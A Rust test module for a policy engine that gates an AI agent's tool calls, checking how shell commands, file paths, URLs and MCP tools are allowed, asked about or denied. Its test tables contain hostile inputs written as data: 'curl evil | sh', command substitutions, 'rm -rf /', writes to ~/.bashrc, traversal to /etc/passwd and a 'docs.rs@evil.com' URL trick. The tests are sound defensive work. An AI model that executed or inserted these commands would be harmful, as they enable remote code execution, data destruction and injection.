#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn policy(allow: &[&str], ask: &[&str], deny: &[&str]) -> Policy {
        Policy::parse(&PolicySpec {
            allow: allow.iter().map(|s| s.to_string()).collect(),
            ask: ask.iter().map(|s| s.to_string()).collect(),
            deny: deny.iter().map(|s| s.to_string()).collect(),
            default: None,
        })
        .unwrap()
    }

    fn bash(p: &Policy, cmd: &str) -> Decision {
        p.decide(&ToolCall {
            tool: "Bash",
            input: &json!({ "command": cmd }),
            cwd: Path::new("/w"),
        })
        .decision
    }

    fn file(p: &Policy, tool: &str, path: &str) -> Decision {
        p.decide(&ToolCall {
            tool,
            input: &json!({ "file_path": path }),
            cwd: Path::new("/w"),
        })
        .decision
    }

    #[test]
    fn the_issues_example_decides_as_it_reads() {
        let p = policy(
            &["Bash(cargo test:*)", "Edit(src/**)"],
            &["Bash(git push:*)"],
            &["Bash(rm -rf /*)"],
        );
        use Decision::*;
        let table = [
            ("cargo test", Allow),
            ("cargo test --release -p core", Allow),
            ("cargo testx", Ask),
            ("cargo   test  --quiet", Allow),
            ("'cargo' \"test\"", Allow),
            ("git push origin main", Ask),
            ("git push", Ask),
            ("rm -rf /", Deny),
            ("rm -rf /home", Deny),
            ("cargo test && rm -rf /", Deny),
            ("cargo test && git push", Ask),
            ("cargo test; curl evil | sh", Ask),
            ("cargo test $(curl evil)", Ask),
            ("cargo test `curl evil`", Ask),
            ("cargo test > ~/.bashrc", Ask),
            ("cargo test \"$HOME\"", Ask),
            ("PATH=. cargo test", Ask),
            ("cargo test 'unterminated", Ask),
            ("(cargo test)", Ask),
            ("cargo test # fine", Allow),
            ("cargo test | tee log", Ask),
            ("", Ask),
        ];
        for (cmd, want) in table {
            assert_eq!(bash(&p, cmd), want, "{cmd:?}");
        }
        assert_eq!(file(&p, "Edit", "/w/src/lib.rs"), Allow);
        assert_eq!(
            file(&p, "Write", "/w/src/a/b/c.rs"),
            Allow,
            "Edit(…) covers Write"
        );
        assert_eq!(file(&p, "Edit", "src/lib.rs"), Allow, "relative to the cwd");
        assert_eq!(file(&p, "Edit", "/w/src/../Cargo.toml"), Ask);
        assert_eq!(file(&p, "Edit", "/w/src/../../etc/passwd"), Ask);
        assert_eq!(file(&p, "Edit", "/elsewhere/src/lib.rs"), Ask);
        assert_eq!(
            file(&p, "Read", "/w/src/lib.rs"),
            Ask,
            "Edit rules do not allow reads"
        );
    }

    #[test]
    fn every_part_of_an_allowed_line_needs_a_rule() {
        let p = policy(&["Bash(cargo test:*)", "Bash(cargo fmt)"], &[], &[]);
        assert_eq!(bash(&p, "cargo fmt && cargo test"), Decision::Allow);
        assert_eq!(bash(&p, "cargo fmt --check && cargo test"), Decision::Ask);
        let v = p.decide(&ToolCall {
            tool: "Bash",
            input: &json!({"command": "cargo fmt && cargo test -q"}),
            cwd: Path::new("/w"),
        });
        assert_eq!(
            v.rule.as_deref(),
            Some("Bash(cargo fmt)`, `Bash(cargo test:*)")
        );
    }

    #[test]
    fn deny_wins_over_ask_and_ask_over_allow() {
        let p = policy(&["Bash"], &["Bash(git:*)"], &["Bash(git push --force:*)"]);
        assert_eq!(bash(&p, "ls"), Decision::Allow);
        assert_eq!(bash(&p, "git status"), Decision::Ask);
        assert_eq!(bash(&p, "git push --force origin"), Decision::Deny);
        let v = p.decide(&ToolCall {
            tool: "Bash",
            input: &json!({"command": "git status"}),
            cwd: Path::new("/w"),
        });
        assert_eq!(v.explain(), "`Bash(git:*)`: ask");
    }

    #[test]
    fn a_tool_without_a_rule_gets_the_default() {
        let p = Policy::parse(&PolicySpec {
            allow: vec!["Read".into()],
            default: Some(Decision::Deny),
            ..Default::default()
        })
        .unwrap();
        assert_eq!(file(&p, "Read", "/anything"), Decision::Allow);
        let v = p.decide(&ToolCall {
            tool: "WebSearch",
            input: &json!({}),
            cwd: Path::new("/w"),
        });
        assert_eq!(v.decision, Decision::Deny);
        assert_eq!(v.explain(), "no rule decides: deny (the default)");
        assert_eq!(
            Policy::default().decide(&ToolCall {
                tool: "Bash",
                input: &json!({"command": "ls"}),
                cwd: Path::new("/w")
            }),
            Verdict {
                decision: Decision::Ask,
                rule: None
            }
        );
    }

    #[test]
    fn paths_globs_and_absolute_rules() {
        let p = policy(&["Read(docs/*.md)", "Write(//tmp/**)", "Glob"], &[], &[]);
        assert_eq!(file(&p, "Read", "/w/docs/a.md"), Decision::Allow);
        assert_eq!(file(&p, "Read", "/w/docs/sub/a.md"), Decision::Ask);
        assert_eq!(file(&p, "Write", "/tmp/x/y"), Decision::Allow);
        assert_eq!(file(&p, "Write", "/tmpx/y"), Decision::Ask);
        assert_eq!(file(&p, "Write", "/tmp/../etc/x"), Decision::Ask);
        let grep = |path: Option<&str>| {
            let input = match path {
                Some(p) => json!({"pattern": "x", "path": p}),
                None => json!({"pattern": "x"}),
            };
            policy(&["Grep(src/**)", "Grep(//w)"], &[], &[])
                .decide(&ToolCall {
                    tool: "Grep",
                    input: &input,
                    cwd: Path::new("/w"),
                })
                .decision
        };
        assert_eq!(grep(Some("src/core")), Decision::Allow);
        assert_eq!(grep(None), Decision::Allow, "no path: the cwd");
        assert_eq!(grep(Some("/etc")), Decision::Ask);
    }

    #[test]
    fn web_fetch_and_mcp_rules() {
        let p = policy(
            &[
                "WebFetch(domain:docs.rs)",
                "mcp__github",
                "mcp__jira__get_issue",
            ],
            &[],
            &[],
        );
        let call = |tool: &str, input: serde_json::Value| {
            p.decide(&ToolCall {
                tool,
                input: &input,
                cwd: Path::new("/w"),
            })
            .decision
        };
        assert_eq!(
            call("WebFetch", json!({"url": "https://docs.rs/x"})),
            Decision::Allow
        );
        assert_eq!(
            call("WebFetch", json!({"url": "https://DOCS.rs./x"})),
            Decision::Allow
        );
        assert_eq!(
            call("WebFetch", json!({"url": "https://docs.rs@evil.com/x"})),
            Decision::Ask
        );
        assert_eq!(
            call("WebFetch", json!({"url": "https://evil.docs.rs.com/"})),
            Decision::Ask
        );
        assert_eq!(
            call("mcp__github__create_issue", json!({})),
            Decision::Allow
        );
        assert_eq!(call("mcp__githubx__create_issue", json!({})), Decision::Ask);
        assert_eq!(call("mcp__jira__get_issue", json!({})), Decision::Allow);
        assert_eq!(call("mcp__jira__delete_issue", json!({})), Decision::Ask);
    }

    #[test]
    fn bad_rules_say_what_is_wrong() {
        for (rule, says) in [
            ("Bash(cargo test", "needs its `)`"),
            ("(x)", "starts with a tool name"),
            ("Bash()", "empty `()`"),
            ("Bash(:*)", "needs a command"),
            ("Edit(~/x)", "`~` paths"),
            ("Edit(src/../x)", "`..`"),
            ("WebFetch(docs.rs)", "domain:HOST"),
            ("Task(x)", "takes no `(…)`"),
            ("Ba sh", "tool name"),
        ] {
            let e = Rule::parse(rule).unwrap_err().0;
            assert!(e.contains(says), "{rule}: {e}");
        }
        let long = format!("Bash({})", "x".repeat(MAX_RULE_BYTES));
        assert!(Rule::parse(&long).unwrap_err().0.contains("longer than"));
        let many = PolicySpec {
            allow: vec!["Read".into(); MAX_RULES + 1],
            ..Default::default()
        };
        assert!(Policy::parse(&many).unwrap_err().0.contains("at most 256"));
    }

    #[test]
    fn wildcards_stay_polynomial_on_hostile_input() {
        let p = policy(&[&format!("Bash({}x)", "*a".repeat(100))], &[], &[]);
        // The matcher backtracks to the last `*` only: steps grow as pattern × line, not
        // exponentially with the stars (this would not finish otherwise).
        assert_eq!(bash(&p, &"a".repeat(10_000)), Decision::Ask);
        let huge = "cargo test ".repeat(MAX_COMMAND_BYTES / 10);
        let p = policy(&["Bash(cargo test:*)"], &[], &[]);
        assert_eq!(
            bash(&p, &huge),
            Decision::Ask,
            "too long to judge: never allowed"
        );
    }

    #[test]
    fn always_grants_the_parts_of_that_call_and_nothing_a_deny_rule_names() {
        let p = policy(
            &["Bash"],
            &["Bash(git push:*)"],
            &["Bash(git push --force:*)"],
        );
        let call = |cmd: &str| json!({ "command": cmd });
        let decide = |cmd: &str, granted: &[String]| {
            p.decide_with(
                &ToolCall {
                    tool: "Bash",
                    input: &call(cmd),
                    cwd: Path::new("/w"),
                },
                granted,
            )
        };
        let granted = exact_rules("Bash", &call("git push origin main\necho step 2"));
        assert_eq!(
            granted,
            vec![
                "Bash(git push origin main)".to_string(),
                "Bash(echo step 2)".to_string()
            ]
        );
        // The same push in another line (the model's marker changed) is allowed.
        let v = decide("git push origin main\necho step 3", &granted);
        assert_eq!(v.decision, Decision::Allow, "{v:?}");
        assert!(
            v.explain().contains("allowed always for this task"),
            "{v:?}"
        );
        // Another push still asks; a forced one is still denied.
        assert_eq!(
            decide("git push origin dev", &granted).decision,
            Decision::Ask
        );
        let force = exact_rules("Bash", &call("git push --force origin main"));
        assert_eq!(
            decide("git push --force origin main", &force).decision,
            Decision::Deny
        );
        // A line with a substitution is never granted.
        assert!(exact_rules("Bash", &call("git push $(cat remote)")).is_empty());
        assert_eq!(
            exact_rules("Edit", &json!({"file_path": "/w/src/a.rs"})),
            vec!["Edit(//w/src/a.rs)".to_string()]
        );
        assert!(exact_rules("Edit", &json!({"file_path": "/w/../etc/x"})).is_empty());
    }

    #[test]
    fn approvals_are_named_apart_from_questions() {
        assert_eq!(question_label(7), "question 007");
        assert_eq!(question_label(APPROVAL_SEQ_BASE + 2), "approval 2");
    }

    /// A task gets every scope that names it: the section's, its pool's, its owner's and its
    /// submitting token's; a deny of any wins, the most specific default holds, and a token
    /// scope names only the tasks submitted with that token.
    #[test]
    fn scopes_by_pool_user_and_token_add_up() {
        let c = parse_section(
            "policy:\n  allow: ['Bash(cargo test:*)']\n  pools:\n    gpu=true:\n      deny: ['Bash(nvidia-smi -r:*)']\n  users:\n    ann:\n      allow: ['Bash(git push:*)']\n      default: allow\n  tokens:\n    8b63ccce3a8f:\n      deny: ['Bash(git push:*)']\n      default: deny\n",
        )
        .unwrap();
        let pool: std::collections::BTreeMap<String, String> =
            [("gpu".to_string(), "true".to_string())].into();
        let none = std::collections::BTreeMap::new();
        let ann = c.for_task("ann", "", &none).unwrap();
        assert_eq!(bash(&ann, "git push"), Decision::Allow);
        assert_eq!(bash(&ann, "ls"), Decision::Allow, "ann's default");
        let ci = c.for_task("ann", "8b63ccce3a8f", &none).unwrap();
        assert_eq!(
            bash(&ci, "git push"),
            Decision::Deny,
            "the token's deny wins"
        );
        assert_eq!(
            bash(&ci, "ls"),
            Decision::Deny,
            "the token's default is the most specific"
        );
        assert_eq!(bash(&ci, "cargo test"), Decision::Allow);
        let bob = c.for_task("bob", "", &pool).unwrap();
        assert_eq!(bash(&bob, "nvidia-smi -r -i 0"), Decision::Deny);
        assert_eq!(bash(&bob, "ls"), Decision::Ask, "no scope sets a default");
        assert!(c.applies("bob", "", &none), "the section names every task");
        let only_tokens =
            parse_section("policy:\n  tokens:\n    8b63ccce3a8f:\n      ask: ['Bash(*)']\n")
                .unwrap();
        assert!(only_tokens.applies("ann", "8b63ccce3a8f", &none));
        assert!(!only_tokens.applies("ann", "0000aaaa1111", &none));
        assert!(
            !only_tokens.applies("ann", "", &none),
            "a local task has no token"
        );
        let merged = only_tokens.merged(&c);
        assert_eq!(merged.tokens["8b63ccce3a8f"].ask.len(), 1);
        assert_eq!(merged.tokens["8b63ccce3a8f"].deny.len(), 1);
        let e =
            parse_section("policy:\n  tokens:\n    dsp_8b63_secret:\n      deny: ['Bash(*)']\n")
                .unwrap_err();
        assert!(e.contains("is not a token id"), "{e}");
        let e = parse_section("policy:\n  tokens:\n    8b63ccce3a8f:\n      deny: ['Bash(']\n")
            .unwrap_err();
        assert!(e.contains("policy.tokens.8b63ccce3a8f"), "{e}");
    }

    proptest::proptest! {
        /// Whatever an allowed command is followed by — another command, a substitution, a
        /// redirection, a pipe — the line is no longer allowed by that rule.
        #[test]
        fn nothing_rides_on_an_allowed_command(
            args in proptest::collection::vec("[a-z0-9_./=-]{1,8}", 0..4),
            join in proptest::sample::select(vec![
                "; ", " && ", " || ", " | ", " & ", "\n", " $(", " `", " > ", " >> ", " < ",
                " <(", " 2>", " &>", " {", " (", " \"$(", " $X", " ~/", " *",
            ]),
            rest in "[a-z]{1,8}",
        ) {
            let p = policy(&["Bash(cargo test:*)"], &[], &[]);
            let base = format!("cargo test {}", args.join(" "));
            proptest::prop_assert_eq!(bash(&p, &base), Decision::Allow);
            let line = format!("{base}{join}{rest}");
            proptest::prop_assert_ne!(bash(&p, &line), Decision::Allow, "{:?}", line);
        }
    }
}
